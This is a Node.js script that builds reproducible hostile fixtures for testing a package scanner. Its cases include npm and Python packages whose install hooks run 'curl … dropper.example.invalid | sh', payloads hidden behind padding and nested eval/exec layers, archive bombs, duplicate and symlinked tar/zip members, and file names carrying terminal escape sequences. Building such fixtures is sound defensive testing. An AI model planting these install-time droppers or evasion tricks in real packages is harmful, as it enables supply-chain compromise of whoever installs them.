#!/usr/bin/env node
// Generates the hostile inputs of issue #16, each one reproducible (no randomness, no
// network): packages that hide code behind the analyzer's caps, tiny inputs that used
// to cost minutes, and names made to attack a terminal. Nothing generated is malware:
// the "payloads" are inert one-liners naming example.invalid.
//
//   node scripts/gen-hostile.mjs OUT_DIR      writes every case under OUT_DIR/<id>/
//   node scripts/gen-hostile.mjs OUT_DIR --big  also the 50 MB source files (gen-hostile-source.mjs)
//   node scripts/gen-hostile.mjs --list       prints the ids and what each one is
//
// Tests import hostileCases() and check each case's `expect`.
import { mkdirSync, writeFileSync } from "node:fs";
import { dirname, join } from "node:path";
import { pathToFileURL } from "node:url";
import { crc32, deflateRawSync, gzipSync } from "node:zlib";
import { bigSourceCases, sourceCases } from "./gen-hostile-source.mjs";

const MB = 1024 * 1024;
const DROPPER_JS = 'require("child_process").exec("curl -s http://dropper.example.invalid/x | sh");\n';
const DROPPER_PY = 'import os\nos.system("curl -s http://dropper.example.invalid/x | sh")\n';
const npmManifest = (extra = {}) => JSON.stringify({ name: "hostile-fixture", version: "1.0.0", ...extra }, null, 2);
const postinstall = (command) => npmManifest({ scripts: { postinstall: command } });

/** Code padded past `bytes` with a comment, the payload after the padding. */
function padded(bytes, payload, comment = "//") {
  return `${comment} ${"x".repeat(bytes)}\n${payload}`;
}

/** eval(eval(...)) `depth` levels deep around `code`, each level a string literal. */
// Each layer holds a statement of its own besides the eval/exec of the next: layers that only
// run the next one are peeled without limit of depth (dynamic-code.ts, python/calls.ts).
function evalChain(depth, code) {
  let text = code;
  for (let i = 0; i < depth; i++) text = `var k${i} = ${i}; eval(${JSON.stringify(text)});`;
  return text;
}

function execChain(depth, code) {
  let text = code;
  for (let i = 0; i < depth; i++) text = `k${i} = ${i}; exec(${JSON.stringify(text)})`;
  return `${text}\n`;
}

/**
 * Every case: `files` is a package directory (path → content). `expect.rule`/`severity`:
 * the finding the scan must give; `expect.noRule`: a benign twin that must not give it;
 * `expect.listed`: a file that must appear in errors[] with its reason.
 */
export function hostileCases() {
  return [
    // ---- 1. nothing unanalysed is reported clean -------------------------------------
    {
      group: "unanalysed",
      id: "npm-deep-array-install",
      about: "install.js with a 1000-deep array before the payload (parsers refuse, Node runs it)",
      files: { "package.json": postinstall("node install.js"), "install.js": `var a = ${"[".repeat(1000)}${"]".repeat(1000)};\n${DROPPER_JS}` },
      expect: { rule: "unanalysed-code", severity: "high", file: "install.js" },
    },
    {
      group: "unanalysed",
      id: "npm-deep-array-unreached",
      about: "benign twin: the same deep array in a file nothing runs",
      files: { "package.json": npmManifest({ main: "index.js" }), "index.js": "module.exports = 1;\n", "data/deep.js": `var a = ${"[".repeat(1000)}${"]".repeat(1000)};\n` },
      expect: { noRule: "unanalysed-code", listed: "data/deep.js" },
    },
    {
      group: "unanalysed",
      id: "npm-long-chain-main",
      about: "entry point with a 5000-term a+b chain",
      files: { "package.json": npmManifest({ main: "index.js" }), "index.js": `var a = "x"; var b = ${Array(5000).fill("a").join("+")};\n${DROPPER_JS}` },
      expect: { rule: "unanalysed-code", severity: "medium", file: "index.js" },
    },
    {
      group: "unanalysed",
      id: "npm-padded-install",
      about: "install.js padded past 6 MB with a comment (comments cost no parse budget: analysed)",
      files: { "package.json": postinstall("node install.js"), "install.js": padded(6.5 * MB, DROPPER_JS) },
      expect: { found: ["install-time-network", "install.js"], noRule: "unanalysed-code" },
    },
    {
      group: "unanalysed",
      id: "npm-padded-required",
      about: "install.js requires lib/big.js, padded past 6 MB (analysed)",
      files: { "package.json": postinstall("node install.js"), "install.js": 'require("./lib/big");\n', "lib/big.js": padded(6.5 * MB, DROPPER_JS) },
      expect: { found: ["install-time-network", "lib/big.js"], noRule: "unanalysed-code" },
    },
    {
      group: "unanalysed",
      id: "npm-padded-manifest",
      about: "package.json padded past 10 MB (read: under --max-file-bytes); its postinstall is curl|sh",
      files: { "package.json": JSON.stringify({ name: "hostile-fixture", version: "1.0.0", description: "x".repeat(10.5 * MB), scripts: { postinstall: "curl -s http://dropper.example.invalid/x | sh" } }) },
      expect: { found: ["install-time-network", "package.json"] },
    },
    {
      group: "unanalysed",
      id: "npm-eval-chain",
      about: "payload inside eval(eval(eval(eval(eval(...))))) at install",
      files: { "package.json": postinstall("node install.js"), "install.js": evalChain(6, DROPPER_JS.trim()) + "\n" },
      expect: { rule: "unanalysed-code", severity: "high", file: "install.js" },
    },
    {
      group: "unanalysed",
      id: "npm-string-doubling",
      about: "install.js doubles a string until V8 throws Invalid string length",
      files: { "package.json": postinstall("node install.js"), "install.js": `var s = "ab"; for (var i = 0; i < 40; i++) s = s + s;\n${DROPPER_JS}` },
      expect: { notClean: true },
    },
    {
      group: "unanalysed",
      id: "py-padded-setup",
      about: "setup.py padded past 4 MB with a comment (comments cost no parse budget: analysed)",
      files: { "setup.py": padded(4.5 * MB, DROPPER_PY, "#"), "PKG-INFO": "Metadata-Version: 2.1\nName: hostile-fixture\nVersion: 1.0.0\n" },
      expect: { found: ["install-time-network", "setup.py"], noRule: "unanalysed-code" },
    },
    {
      group: "unanalysed",
      id: "py-padded-module-unreached",
      about: "benign twin: a 4.5 MB Python data module deep in the package (analysed, nothing to say)",
      files: { "setup.py": "from setuptools import setup\nsetup(name='hostile-fixture', version='1.0.0')\n", "pkg/data/table.py": padded(4.5 * MB, "TABLE = 1\n", "#") },
      expect: { noRule: "unanalysed-code", clean: true },
    },
    {
      group: "unanalysed",
      id: "py-exec-chain",
      about: "setup.py: the payload inside exec(exec(...)) 8 levels deep",
      files: { "setup.py": execChain(8, 'import os; os.system("curl -s http://dropper.example.invalid/x | sh")'), "PKG-INFO": "Metadata-Version: 2.1\nName: hostile-fixture\nVersion: 1.0.0\n" },
      expect: { rule: "unanalysed-code", severity: "high", file: "setup.py" },
    },

    // ---- 2. denial of service from tiny inputs (each must finish in seconds) ----------
    {
      group: "dos",
      id: "py-pyproject-unterminated",
      about: "pyproject.toml: thousands of unterminated name = \"\"\" / backslash runs under [project]",
      files: { "pyproject.toml": `[project]\n${'name = """\\'.repeat(40_000)}\nversion = "1.0"\n[build-system]\nbackend-path = [${'"'.repeat(100_000)}\n`, "mod.py": "X = 1\n" },
      expect: { ecosystem: "pypi" },
    },
    {
      group: "dos",
      id: "py-pkginfo-whitespace",
      about: "PKG-INFO: a Name: header followed by 1 MB of spaces and tabs",
      files: { "PKG-INFO": `Metadata-Version: 2.1\nName:${" \t".repeat(500_000)}x\nVersion: 1.0.0\n`, "mod.py": "X = 1\n" },
      expect: { ecosystem: "pypi", version: "1.0.0" },
    },
    {
      group: "dos",
      id: "py-setupcfg-whitespace",
      about: "setup.cfg: name = followed by 1 MB of spaces and a tab, 20k [metadata] lines",
      files: { "setup.cfg": `[metadata]\nname =${" ".repeat(1_000_000)}\t\n${"[metadata]\n".repeat(20_000)}`, "mod.py": "X = 1\n" },
      expect: { ecosystem: "pypi" },
    },
    {
      group: "dos",
      id: "npm-60k-scripts",
      about: "package.json with 60 000 scripts and a postinstall at the end",
      files: {
        "package.json": JSON.stringify({ name: "hostile-fixture", version: "1.0.0", scripts: { ...Object.fromEntries(Array.from({ length: 60_000 }, (_, i) => [`s${i}`, "echo"])), postinstall: "curl -s http://dropper.example.invalid/x | sh" } }, null, 2),
      },
      expect: { ecosystem: "npm", name: "hostile-fixture", rule: "install-time-network", severity: "medium", file: "package.json" },
    },
  ];
}

// ---- hostile archives, built byte by byte (no packer writes these) -------------------

/** One ustar header block; `type` is the raw typeflag character; `name` a string or raw bytes. */
function tarHeader(name, size, type = "0", linkname = "") {
  const block = Buffer.alloc(512);
  if (Buffer.isBuffer(name)) name.copy(block, 0, 0, 100);
  else block.write(name, 0, 100, "utf8");
  block.write("0000644\0", 100);
  block.write("0000000\0", 108);
  block.write("0000000\0", 116);
  block.write(`${size.toString(8).padStart(11, "0")}\0`, 124);
  block.write("00000000000\0", 136);
  block.write(type, 156);
  block.write(linkname, 157, 100, "utf8");
  block.write("ustar\u000000", 257);
  block.fill(0x20, 148, 156);
  let sum = 0;
  for (const byte of block) sum += byte;
  block.write(`${sum.toString(8).padStart(6, "0")}\0 `, 148);
  return block;
}

/** A pax extended header ("x") carrying `path`, for names longer than the 100 bytes of ustar. */
function paxPath(name) {
  const record = (len) => `${len} path=${name}\n`;
  let len = Buffer.byteLength(record(0));
  while (Buffer.byteLength(record(len)) !== len) len = Buffer.byteLength(record(len));
  const body = Buffer.from(record(len));
  return [tarHeader("././@PaxHeader", body.length, "x"), body, Buffer.alloc((512 - (body.length % 512)) % 512)];
}

/**
 * A tar of { name, content?, type?, link? } entries (type: a typeflag character; name: a
 * string, written in a pax header when over 100 bytes, or raw bytes that need not be UTF-8).
 */
export function makeTarBytes(entries) {
  const blocks = [];
  for (const { name, content = "", type = "0", link = "" } of entries) {
    const body = Buffer.from(content);
    const size = type === "2" || type === "1" ? 0 : body.length;
    if (typeof name === "string" && Buffer.byteLength(name) > 100) blocks.push(...paxPath(name));
    blocks.push(tarHeader(name, size, type, link));
    if (size) blocks.push(body, Buffer.alloc((512 - (size % 512)) % 512));
  }
  blocks.push(Buffer.alloc(1024));
  return Buffer.concat(blocks);
}

/**
 * A zip of { name, content, stored?, declaredSize?, offsetOf? } entries. `declaredSize`
 * lies about the inflated size; `offsetOf` makes the central entry point at an earlier
 * entry's local data (overlapping entries, the way quine-like bombs reuse one stream).
 */
export function makeZipBytes(entries) {
  const locals = [];
  const central = [];
  const offsets = [];
  let offset = 0;
  for (const entry of entries) {
    const name = Buffer.from(entry.name);
    const flags = entry.utf8Flag === false ? 0 : 0x800;
    const raw = Buffer.from(entry.content ?? "");
    const data = entry.stored ? raw : deflateRawSync(raw, { level: 9 });
    const size = entry.declaredSize ?? raw.length;
    const crc = crc32(raw);
    let at = offset;
    if (entry.offsetOf === undefined) {
      const local = Buffer.alloc(30);
      local.writeUInt32LE(0x04034b50, 0);
      local.writeUInt16LE(20, 4);
      local.writeUInt16LE(flags, 6);
      local.writeUInt16LE(entry.stored ? 0 : 8, 8);
      local.writeUInt32LE(crc, 14);
      local.writeUInt32LE(data.length, 18);
      local.writeUInt32LE(size, 22);
      local.writeUInt16LE(name.length, 26);
      locals.push(local, name, data);
      offset += 30 + name.length + data.length;
    } else at = offsets[entry.offsetOf];
    offsets.push(at);
    const ref = entry.offsetOf === undefined ? { data, crc } : entries[entry.offsetOf].built;
    entry.built = { data: ref.data, crc: ref.crc };
    const header = Buffer.alloc(46);
    header.writeUInt32LE(0x02014b50, 0);
    header.writeUInt16LE(20, 4);
    header.writeUInt16LE(20, 6);
    header.writeUInt16LE(flags, 8);
    header.writeUInt16LE(entry.stored ? 0 : 8, 10);
    header.writeUInt32LE(ref.crc, 16);
    header.writeUInt32LE(ref.data.length, 20);
    header.writeUInt32LE(size, 24);
    header.writeUInt16LE(name.length, 28);
    header.writeUInt32LE(at, 42);
    central.push(header, name);
  }
  const cd = Buffer.concat(central);
  const end = Buffer.alloc(22);
  end.writeUInt32LE(0x06054b50, 0);
  end.writeUInt16LE(Math.min(entries.length, 0xffff), 8);
  end.writeUInt16LE(Math.min(entries.length, 0xffff), 10);
  end.writeUInt32LE(cd.length, 12);
  end.writeUInt32LE(offset, 16);
  return Buffer.concat([...locals, cd, end]);
}

/**
 * A .tgz of ~`compressedMiB` MiB whose one entry inflates to ~1000x that: gzip members of
 * zeros, concatenated (gunzip reads them as one stream).
 */
function tarBomb(compressedMiB) {
  const zeros = gzipSync(Buffer.alloc(1024 * 1024), { level: 9 });
  const members = Math.round((compressedMiB * 1024 * 1024) / zeros.length);
  const header = gzipSync(tarHeader("package/blob.bin", members * 1024 * 1024));
  return Buffer.concat([gzipSync(tarHeader("package/package.json", 2)), gzipSync(Buffer.concat([Buffer.from("{}"), Buffer.alloc(510)])), header, ...Array(members).fill(zeros)]);
}

const PKG_INFO = "Metadata-Version: 2.1\nName: hostile-fixture\nVersion: 1.0.0\n";
const BENIGN_SETUP = "from setuptools import setup\nsetup(name='hostile-fixture', version='1.0.0')\n";

/**
 * Archives: `name` is the file name, `data` its bytes. `expect.stopped`: a target-level
 * message matching it; `expect.maxInflatedMiB`: bound on what the reader inflated;
 * `expect.listed`: [file, message pattern] in errors[]; `expect.content`: [file, text it
 * must contain]; `expect.rule`/`severity`/`file`/`trigger`: a finding of the scan.
 */
export function hostileArchives() {
  return [
    {
      id: "tgz-bomb",
      about: "a 2 MiB .tgz whose one entry inflates to ~2 GiB (gzip members of zeros)",
      name: "bomb.tgz",
      data: tarBomb(2),
      expect: { stopped: /archive bomb|bytes in total/, maxInflatedMiB: 200 + 17 },
    },
    {
      id: "zip-overlap-bomb",
      about: "a small zip whose 3000 entries all point at one 4 MiB deflate stream",
      name: "overlap.zip",
      data: makeZipBytes([{ name: "a/blob0", content: Buffer.alloc(4 * 1024 * 1024, 97) }, ...Array.from({ length: 2999 }, (_, i) => ({ name: `a/blob${i + 1}`, offsetOf: 0 }))]),
      expect: { stopped: /archive bomb|bytes in total|files/ },
    },
    {
      id: "zip-declared-size-lies",
      about: "a wheel whose setup-time module declares 16 bytes but inflates to the padded payload",
      name: "lies-1.0-py3-none-any.whl",
      data: makeZipBytes([
        { name: "hostile_fixture/__init__.py", content: padded(64 * 1024, DROPPER_PY, "#"), declaredSize: 16 },
        { name: "hostile_fixture-1.0.dist-info/METADATA", content: PKG_INFO },
      ]),
      expect: { listed: ["hostile_fixture/__init__.py", /declares 16 bytes but inflates to/], content: ["hostile_fixture/__init__.py", "dropper.example.invalid"] },
    },
    {
      id: "zip-duplicate-names",
      about: "a wheel with two hostile_fixture/__init__.py entries: benign first, payload last",
      name: "dup-1.0-py3-none-any.whl",
      data: makeZipBytes([
        { name: "hostile_fixture/__init__.py", content: "X = 1\n" },
        { name: "hostile_fixture-1.0.dist-info/METADATA", content: PKG_INFO },
        { name: "hostile_fixture/__init__.py", content: DROPPER_PY },
      ]),
      expect: { listed: ["hostile_fixture/__init__.py", /duplicate entry: 2 copies.*last one is what is installed/], content: ["hostile_fixture/__init__.py", "dropper.example.invalid"] },
    },
    {
      id: "tar-duplicate-names",
      about: "an sdist with two setup.py entries: payload first, benign last (the last is installed)",
      name: "dup-1.0.tar.gz",
      data: gzipSync(makeTarBytes([
        { name: "dup-1.0/setup.py", content: DROPPER_PY },
        { name: "dup-1.0/PKG-INFO", content: PKG_INFO },
        { name: "dup-1.0/setup.py", content: BENIGN_SETUP },
      ])),
      expect: { listed: ["setup.py", /duplicate entry: 2 copies/], content: ["setup.py", "from setuptools import setup"] },
    },
    {
      id: "sdist-setup-symlink",
      about: "an sdist whose setup.py is a symlink to another file of the archive (pip extracts it)",
      name: "link-1.0.tar.gz",
      data: gzipSync(makeTarBytes([
        { name: "link-1.0/tools/build.py", content: DROPPER_PY },
        { name: "link-1.0/PKG-INFO", content: PKG_INFO },
        { name: "link-1.0/setup.py", type: "2", link: "tools/build.py" },
      ])),
      expect: { content: ["setup.py", "dropper.example.invalid"], listed: ["setup.py", /note: symlink to tools\/build.py/], finding: { file: "setup.py", trigger: "install" } },
    },
    {
      id: "sdist-setup-unknown-type",
      about: "an sdist whose setup.py is a tar member of an unknown type (Python's tarfile extracts it as a file)",
      name: "odd-1.0.tar.gz",
      data: gzipSync(makeTarBytes([
        { name: "odd-1.0/PKG-INFO", content: PKG_INFO },
        { name: "odd-1.0/setup.py", content: DROPPER_PY, type: "Z" },
      ])),
      expect: { listed: ["setup.py", /could not be read/], rule: "unanalysed-code", severity: "high", file: "setup.py" },
    },
    {
      id: "sdist-setup-sparse",
      about: "an sdist whose setup.py is a GNU sparse member",
      name: "sparse-1.0.tar.gz",
      data: gzipSync(makeTarBytes([
        { name: "sparse-1.0/PKG-INFO", content: PKG_INFO },
        { name: "sparse-1.0/setup.py", content: DROPPER_PY, type: "S" },
      ])),
      expect: { listed: ["setup.py", /SparseFile.*could not be read/], rule: "unanalysed-code", severity: "high", file: "setup.py" },
    },
  ];
}

// ---- archive shapes: many files, deep folders, devices, undecodable and control names --

const npmTgz = (entries, manifest = npmManifest()) => gzipSync(makeTarBytes([{ name: "package/package.json", content: manifest }, ...entries.map((e) => ({ ...e, name: prefixed("package/", e.name) }))]));
const sdist = (entries) => gzipSync(makeTarBytes([{ name: "shape-1.0/PKG-INFO", content: PKG_INFO }, { name: "shape-1.0/setup.py", content: BENIGN_SETUP }, ...entries.map((e) => ({ ...e, name: prefixed("shape-1.0/", e.name) }))]));
const wheel = (entries) => makeZipBytes([{ name: "hostile_fixture-1.0.dist-info/METADATA", content: PKG_INFO }, ...entries.map((e) => ({ stored: true, ...e }))]);
/** A member name under a wrapper folder: strings joined, raw bytes concatenated. */
const prefixed = (prefix, name) => (Buffer.isBuffer(name) ? Buffer.concat([Buffer.from(prefix), name]) : prefix + name);
const tinyFiles = (n, ext) => Array.from({ length: n }, (_, i) => ({ name: `f/${String(i).padStart(6, "0")}.${ext}`, content: `${i}\n` }));
const DEEP = `${"d/".repeat(1000)}`;
const NAMES_HOSTILE = ["e\u001b[2J\u001b]0;owned\u0007.js", "x\n0 critical, 0 high\n.js"];
const devices = [{ name: "dev-char", type: "3" }, { name: "dev-block", type: "4" }, { name: "fifo", type: "6" }];
const bytes = (...parts) => Buffer.concat(parts.map((p) => (typeof p === "string" ? Buffer.from(p) : Buffer.from(p))));

/**
 * Archive shapes of issue #16 as .tgz (npm), sdist .tar.gz and wheel. `expect.errors`:
 * [file or "" for the target, pattern] that must be in errors[]; `expect.contents`: [file,
 * text] read in full; `expect.files`: how many files are read; `expect.raised`: caps under
 * which everything is read (a cap, never a silent drop); `expect.finding`: file and trigger
 * of a finding of the scan.
 */
export function archiveShapes() {
  const dropperNpm = npmManifest({ scripts: { postinstall: `node ${DEEP}install.js` } });
  return [
    ...[["tgz", "many.tgz", () => npmTgz(tinyFiles(100_000, "js"))], ["sdist", "many-1.0.tar.gz", () => sdist(tinyFiles(100_000, "py"))], ["zip", "many-1.0-py3-none-any.whl", () => wheel(tinyFiles(100_000, "py"))]].map(([kind, name, data]) => ({
      id: `many-files-${kind}`,
      about: `a ${kind} of 100 000 one-line files: reading stops at --max-files (20 000) with a target-level error; a raised cap reads them all`,
      name,
      data: data(),
      expect: { errors: [["", /more than 20000 files \(--max-files\); reading stopped/]], raised: { maxFiles: 200_000, maxTotalBytes: 1024 ** 3 }, files: 100_000 + (kind === "sdist" ? 2 : 1) },
    })),
    {
      id: "deep-dirs-tgz",
      about: "a .tgz whose install script is 1000 folders deep (a 2 KB pax path)",
      name: "deep.tgz",
      data: npmTgz([{ name: `${DEEP}install.js`, content: DROPPER_JS }], dropperNpm),
      expect: { contents: [[`${DEEP}install.js`, "dropper.example.invalid"]], finding: { file: `${DEEP}install.js`, trigger: "install" } },
    },
    {
      id: "deep-dirs-sdist",
      about: "an sdist with a module 1000 folders deep",
      name: "deep-1.0.tar.gz",
      data: sdist([{ name: `${DEEP}mod.py`, content: DROPPER_PY }]),
      expect: { contents: [[`${DEEP}mod.py`, "dropper.example.invalid"]] },
    },
    {
      id: "deep-dirs-zip",
      about: "a wheel with a module 1000 folders deep",
      name: "deep-1.0-py3-none-any.whl",
      data: wheel([{ name: `hostile_fixture/${DEEP}mod.py`, content: DROPPER_PY }]),
      expect: { contents: [[`hostile_fixture/${DEEP}mod.py`, "dropper.example.invalid"]] },
    },
    {
      id: "device-members-tgz",
      about: "a .tgz with a character device, a block device and a FIFO member",
      name: "devices.tgz",
      data: npmTgz([...devices, { name: "index.js", content: "module.exports = 1;\n" }]),
      expect: { errors: [["dev-char", /CharacterDevice: not read/], ["dev-block", /BlockDevice: not read/], ["fifo", /FIFO: not read/]] },
    },
    {
      id: "device-members-sdist",
      about: "an sdist whose setup.py is a FIFO member after a character device",
      name: "devices-1.0.tar.gz",
      data: gzipSync(makeTarBytes([{ name: "dev-1.0/PKG-INFO", content: PKG_INFO }, { name: "dev-1.0/dev-char", type: "3" }, { name: "dev-1.0/setup.py", type: "6" }])),
      expect: { errors: [["dev-char", /CharacterDevice: not read/], ["setup.py", /FIFO: not read/]] },
    },
    {
      id: "undecodable-names-tgz",
      about: "a .tgz with lib/\\xff.js (payload) and lib/\\xfe.js (benign): both decode to lib/\\ufffd.js",
      name: "undecodable.tgz",
      data: npmTgz([{ name: bytes("lib/", [0xff], ".js"), content: DROPPER_JS }, { name: bytes("lib/", [0xfe], ".js"), content: "module.exports = 1;\n" }]),
      expect: { errors: [["lib/\ufffd.js", /not valid UTF-8/], ["lib/\ufffd~2.js", /not valid UTF-8.*another member decodes to the same name/]], contents: [["lib/\ufffd.js", "dropper.example.invalid"], ["lib/\ufffd~2.js", "module.exports = 1"]] },
    },
    {
      id: "undecodable-names-sdist",
      about: "an sdist with pkg/\\xff.py (payload) and pkg/\\xfe.py (benign) after it",
      name: "undecodable-1.0.tar.gz",
      data: sdist([{ name: bytes("pkg/", [0xff], ".py"), content: DROPPER_PY }, { name: bytes("pkg/", [0xfe], ".py"), content: "X = 1\n" }]),
      expect: { contents: [["pkg/\ufffd.py", "dropper.example.invalid"], ["pkg/\ufffd~2.py", "X = 1"]] },
    },
    {
      id: "undecodable-names-zip",
      about: "a wheel with hostile_fixture/\\xff.py (not UTF-8: Latin-1 ÿ) and a valid hostile_fixture/ÿ.py after it",
      name: "undecodable-1.0-py3-none-any.whl",
      data: wheel([{ name: bytes("hostile_fixture/", [0xff], ".py"), content: DROPPER_PY, utf8Flag: false }, { name: "hostile_fixture/ÿ.py", content: "X = 1\n" }]),
      expect: { errors: [["hostile_fixture/ÿ.py", /not valid UTF-8 \(decoded as Latin-1\)/], ["hostile_fixture/ÿ~2.py", /same name as a member whose name is not valid UTF-8/]], contents: [["hostile_fixture/ÿ.py", "dropper.example.invalid"], ["hostile_fixture/ÿ~2.py", "X = 1"]] },
    },
    {
      id: "control-names-tgz",
      about: "a .tgz whose member names hold ESC/OSC sequences and newlines forging a summary line (each twice: listed as duplicates)",
      name: "control.tgz",
      data: npmTgz([...NAMES_HOSTILE, ...NAMES_HOSTILE].map((name) => ({ name, content: "module.exports = 1;\n" }))),
      expect: { errors: NAMES_HOSTILE.map((n) => [n, /duplicate entry: 2 copies/]) },
    },
    {
      id: "control-names-zip",
      about: "a wheel whose member names hold ESC/OSC sequences and newlines (each twice)",
      name: "control-1.0-py3-none-any.whl",
      data: wheel([...NAMES_HOSTILE, ...NAMES_HOSTILE].map((name) => ({ name: `hostile_fixture/${name.replace(/\.js$/, ".py")}`, content: "X = 1\n" }))),
      expect: { errors: NAMES_HOSTILE.map((n) => [`hostile_fixture/${n.replace(/\.js$/, ".py")}`, /duplicate entry: 2 copies/]) },
    },
  ];
}

function main() {
  const [out] = process.argv.slice(2);
  if (!out) {
    process.stderr.write("usage: node scripts/gen-hostile.mjs OUT_DIR | --list\n");
    process.exit(2);
  }
  for (const a of [...hostileArchives(), ...archiveShapes()]) {
    if (out === "--list") process.stdout.write(`${a.id}\t${a.about}\n`);
    else {
      mkdirSync(join(out, a.id), { recursive: true });
      writeFileSync(join(out, a.id, a.name), a.data);
    }
  }
  const withBig = process.argv.includes("--big");
  for (const c of [...hostileCases(), ...sourceCases(), ...(withBig ? bigSourceCases() : [])]) {
    if (out === "--list") {
      process.stdout.write(`${c.id}\t${c.about}\n`);
      continue;
    }
    for (const [path, content] of Object.entries(c.files)) {
      const full = join(out, c.id, path);
      mkdirSync(dirname(full), { recursive: true });
      writeFileSync(full, content);
    }
  }
}

if (import.meta.url === pathToFileURL(process.argv[1] ?? "").href) main();
